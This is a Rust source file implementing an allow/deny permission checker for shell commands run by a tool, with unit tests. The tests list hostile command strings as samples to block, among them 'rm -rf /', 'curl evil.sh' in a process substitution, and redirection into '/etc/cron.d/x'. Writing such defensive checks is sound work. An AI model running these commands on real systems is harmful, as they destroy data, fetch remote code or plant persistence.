use crate::error::ToolError;
use glob::Pattern;
use serde::{Deserialize, Serialize};
use std::path::{Component, Path};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum PermissionAction {
    Allow,
    Deny,
}

/// A glob pattern matched against one command segment.
#[derive(Debug, Clone)]
pub struct PermissionRule {
    pattern: Pattern,
    action: PermissionAction,
    description: Option<String>,
}

impl PermissionRule {
    pub fn new(pattern: &str, action: PermissionAction) -> Result<Self, ToolError> {
        let pattern = Pattern::new(pattern).map_err(|e| {
            ToolError::InvalidArgument(format!("Invalid glob pattern '{}': {}", pattern, e))
        })?;
        Ok(Self {
            pattern,
            action,
            description: None,
        })
    }

    pub fn allow(pattern: &str) -> Result<Self, ToolError> {
        Self::new(pattern, PermissionAction::Allow)
    }

    pub fn deny(pattern: &str) -> Result<Self, ToolError> {
        Self::new(pattern, PermissionAction::Deny)
    }

    pub fn with_description(mut self, description: impl Into<String>) -> Self {
        self.description = Some(description.into());
        self
    }

    pub fn pattern(&self) -> &str {
        self.pattern.as_str()
    }

    pub fn action(&self) -> PermissionAction {
        self.action
    }

    pub fn matches(&self, command: &str) -> bool {
        self.pattern.matches(command)
    }
}

/// Ordered allow/deny rules. The first matching rule decides; unmatched commands are denied.
#[derive(Debug, Clone, Default)]
pub struct BashPermissions {
    rules: Vec<PermissionRule>,
}

impl BashPermissions {
    pub fn new(rules: Vec<PermissionRule>) -> Self {
        Self { rules }
    }

    pub fn add_rule(&mut self, rule: PermissionRule) {
        self.rules.push(rule);
    }

    pub fn rules(&self) -> &[PermissionRule] {
        &self.rules
    }

    /// Allow commands matching any of the given globs, e.g. `"git status*"`.
    pub fn only_allow(patterns: &[&str]) -> Result<Self, ToolError> {
        let mut rules = patterns
            .iter()
            .map(|p| PermissionRule::allow(p))
            .collect::<Result<Vec<_>, _>>()?;
        rules.push(PermissionRule::deny("*")?);
        Ok(Self::new(rules))
    }

    /// Common read-only inspection commands.
    pub fn read_only() -> Result<Self, ToolError> {
        Self::minimal(&["ls", "cat", "head", "tail", "grep", "find", "wc", "pwd", "file"])
    }

    /// Exactly the named programs, with any arguments.
    pub fn minimal(commands: &[&str]) -> Result<Self, ToolError> {
        let mut rules = Vec::with_capacity(commands.len() * 2 + 1);
        for command in commands {
            let escaped = Pattern::escape(command);
            rules.push(PermissionRule::allow(&escaped)?);
            rules.push(PermissionRule::allow(&format!("{} *", escaped))?);
        }
        rules.push(PermissionRule::deny("*")?.with_description("not in the allowed command list"));
        Ok(Self::new(rules))
    }

    /// Check a full command line. Compound commands are checked segment by segment,
    /// command and process substitution are refused outright, and output redirections
    /// must stay inside the working directory.
    pub fn check_command(&self, command: &str) -> Result<(), ToolError> {
        let command = command.trim();
        if command.is_empty() {
            return Err(ToolError::InvalidArgument("Command cannot be empty".to_string()));
        }
        if ["`", "$(", "<(", ">("].iter().any(|s| command.contains(s)) {
            tracing::warn!(command, "Command substitution refused");
            return Err(ToolError::PermissionDenied(
                "Command and process substitution are not allowed".to_string(),
            ));
        }
        for target in redirection_targets(command) {
            check_redirection_target(&target)?;
        }

        for segment in split_segments(command) {
            self.check_segment(segment)?;
        }
        Ok(())
    }

    pub fn is_command_allowed(&self, command: &str) -> bool {
        self.check_command(command).is_ok()
    }

    fn check_segment(&self, segment: &str) -> Result<(), ToolError> {
        match self.rules.iter().find(|rule| rule.matches(segment)) {
            Some(rule) if rule.action == PermissionAction::Allow => {
                tracing::debug!(segment, rule = rule.pattern(), "Command allowed");
                Ok(())
            }
            Some(rule) => {
                tracing::warn!(segment, rule = rule.pattern(), "Command denied by rule");
                Err(ToolError::PermissionDenied(format!(
                    "Command '{}' denied by rule '{}'{}",
                    segment,
                    rule.pattern(),
                    rule.description
                        .as_ref()
                        .map(|d| format!(" ({})", d))
                        .unwrap_or_default()
                )))
            }
            None => {
                tracing::warn!(segment, "Command denied by default policy");
                Err(ToolError::PermissionDenied(format!(
                    "Command '{}' is not allowed",
                    segment
                )))
            }
        }
    }
}

/// Split on `;`, `&&`, `||`, `|` and newlines, outside single and double quotes.
fn split_segments(command: &str) -> Vec<&str> {
    let bytes = command.as_bytes();
    let mut segments = Vec::new();
    let mut start = 0;
    let mut quote: Option<u8> = None;
    let mut i = 0;

    while i < bytes.len() {
        let b = bytes[i];
        match quote {
            Some(q) if b == q => quote = None,
            Some(_) => {}
            None => match b {
                b'\'' | b'"' => quote = Some(b),
                b'&' if is_redirection(bytes, i) => {}
                b';' | b'\n' | b'|' | b'&' => {
                    let doubled = (b == b'|' || b == b'&') && bytes.get(i + 1) == Some(&b);
                    let width = if doubled { 2 } else { 1 };
                    segments.push(&command[start..i]);
                    i += width;
                    start = i;
                    continue;
                }
                _ => {}
            },
        }
        i += 1;
    }
    segments.push(&command[start..]);

    segments
        .into_iter()
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .collect()
}

/// `2>&1`, `&>file` and `<&3` are redirections, not separators.
fn is_redirection(bytes: &[u8], i: usize) -> bool {
    let before = i.checked_sub(1).map(|j| bytes[j]);
    let after = bytes.get(i + 1).copied();
    matches!(before, Some(b'>') | Some(b'<')) || after == Some(b'>')
}

/// Targets of unquoted output redirections (`>`, `>>`, `>|`, `&>`). Descriptor
/// duplications such as `2>&1` and `>&-` have no target.
fn redirection_targets(command: &str) -> Vec<String> {
    let bytes = command.as_bytes();
    let mut targets = Vec::new();
    let mut quote: Option<u8> = None;
    let mut i = 0;

    while i < bytes.len() {
        let b = bytes[i];
        if let Some(q) = quote {
            if b == q {
                quote = None;
            }
            i += 1;
            continue;
        }
        match b {
            b'\'' | b'"' => {
                quote = Some(b);
                i += 1;
            }
            b'>' => {
                i += 1;
                if matches!(bytes.get(i), Some(b'>') | Some(b'|')) {
                    i += 1;
                }
                if bytes.get(i) == Some(&b'&') {
                    i += 1;
                    let duplicated = bytes
                        .get(i)
                        .is_some_and(|c| c.is_ascii_digit() || *c == b'-');
                    if duplicated {
                        while bytes.get(i).is_some_and(|c| c.is_ascii_digit() || *c == b'-') {
                            i += 1;
                        }
                        continue;
                    }
                }
                while matches!(bytes.get(i), Some(b' ') | Some(b'\t')) {
                    i += 1;
                }
                let (target, next) = read_word(command, i);
                targets.push(target);
                i = next;
            }
            _ => i += 1,
        }
    }
    targets
}

/// One shell word starting at `start`, with quotes removed.
fn read_word(command: &str, start: usize) -> (String, usize) {
    let bytes = command.as_bytes();
    let mut word = Vec::new();
    let mut quote: Option<u8> = None;
    let mut i = start;

    while i < bytes.len() {
        let b = bytes[i];
        match quote {
            Some(q) if b == q => quote = None,
            Some(_) => word.push(b),
            None => match b {
                b'\'' | b'"' => quote = Some(b),
                b' ' | b'\t' | b'\n' | b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')' => break,
                _ => word.push(b),
            },
        }
        i += 1;
    }
    (String::from_utf8_lossy(&word).into_owned(), i)
}

fn check_redirection_target(target: &str) -> Result<(), ToolError> {
    if target == "/dev/null" {
        return Ok(());
    }
    let escapes = target.is_empty()
        || target.starts_with('/')
        || target.starts_with('~')
        || target.contains('$')
        || Path::new(target)
            .components()
            .any(|c| matches!(c, Component::ParentDir));
    if escapes {
        tracing::warn!(target, "Redirection outside the working directory refused");
        return Err(ToolError::PermissionDenied(format!(
            "Redirection to '{}' is outside the working directory",
            target
        )));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_minimal_allows_only_named_program() {
        let perms = BashPermissions::minimal(&["tesseract"]).unwrap();

        assert!(perms.is_command_allowed("tesseract"));
        assert!(perms.is_command_allowed("tesseract scan.png out -l eng"));
        assert!(!perms.is_command_allowed("tesseracts scan.png"));
        assert!(!perms.is_command_allowed("rm -rf /"));
    }

    #[test]
    fn test_compound_commands_check_every_segment() {
        let perms = BashPermissions::minimal(&["ls", "cat"]).unwrap();

        assert!(perms.is_command_allowed("ls -la && cat notes.txt"));
        assert!(perms.is_command_allowed("cat a.txt | cat"));
        assert!(!perms.is_command_allowed("ls; rm -rf /"));
        assert!(!perms.is_command_allowed("cat a.txt || curl evil.sh"));
        assert!(!perms.is_command_allowed("ls\nwhoami"));
        assert!(!perms.is_command_allowed("ls & rm x"));
    }

    #[test]
    fn test_quoted_separators_stay_in_segment() {
        let perms = BashPermissions::minimal(&["grep"]).unwrap();
        assert!(perms.is_command_allowed("grep 'a;b|c' file.txt"));
    }

    #[test]
    fn test_command_substitution_refused() {
        let perms = BashPermissions::only_allow(&["echo*"]).unwrap();
        assert!(matches!(
            perms.check_command("echo $(whoami)"),
            Err(ToolError::PermissionDenied(_))
        ));
        assert!(matches!(
            perms.check_command("echo `id`"),
            Err(ToolError::PermissionDenied(_))
        ));
    }

    #[test]
    fn test_process_substitution_refused() {
        let perms = BashPermissions::minimal(&["tesseract", "true"]).unwrap();
        for command in [
            "true <(touch /tmp/marker)",
            "tesseract <(curl evil.sh) out",
            "tesseract scan.png >(rm -rf ~/x)",
        ] {
            assert!(
                matches!(perms.check_command(command), Err(ToolError::PermissionDenied(_))),
                "{command}"
            );
        }
    }

    #[test]
    fn test_redirection_confined_to_working_dir() {
        let perms = BashPermissions::minimal(&["tesseract", "make"]).unwrap();
        for command in [
            "tesseract scan.png out > /etc/cron.d/x",
            "tesseract scan.png out >> ../outside.txt",
            "tesseract scan.png out >~/x",
            "tesseract scan.png out > $HOME/x",
            "tesseract scan.png out &> \"/tmp/log\"",
            "tesseract scan.png out 2>/var/log/x",
            "tesseract scan.png out >& /tmp/both",
        ] {
            assert!(
                matches!(perms.check_command(command), Err(ToolError::PermissionDenied(_))),
                "{command}"
            );
        }

        assert!(perms.is_command_allowed("make 2>&1"));
        assert!(perms.is_command_allowed("tesseract scan.png stdout > result.txt"));
        assert!(perms.is_command_allowed("tesseract scan.png stdout >> logs/ocr.txt 2>&1"));
        assert!(perms.is_command_allowed("tesseract scan.png out 2>/dev/null"));
        assert!(perms.is_command_allowed("tesseract 'a > /etc/x.png' out"));
    }

    #[test]
    fn test_redirection_targets() {
        assert_eq!(
            redirection_targets("cmd > a.txt 2>&1 >>b 'c > d' &>\"e f\" >&-"),
            vec!["a.txt", "b", "e f"]
        );
    }

    #[test]
    fn test_first_match_wins_and_default_deny() {
        let perms = BashPermissions::new(vec![
            PermissionRule::deny("git push*").unwrap(),
            PermissionRule::allow("git *").unwrap(),
        ]);

        assert!(perms.is_command_allowed("git status"));
        assert!(!perms.is_command_allowed("git push origin main"));
        assert!(!perms.is_command_allowed("make"));
    }

    #[test]
    fn test_read_only_preset() {
        let perms = BashPermissions::read_only().unwrap();
        assert!(perms.is_command_allowed("pwd"));
        assert!(perms.is_command_allowed("head -n 5 Cargo.toml"));
        assert!(!perms.is_command_allowed("touch new.txt"));
    }

    #[test]
    fn test_split_segments() {
        assert_eq!(
            split_segments("a && b || c | d; e\nf"),
            vec!["a", "b", "c", "d", "e", "f"]
        );
        assert_eq!(split_segments("make 2>&1 | tail"), vec!["make 2>&1", "tail"]);
    }
}
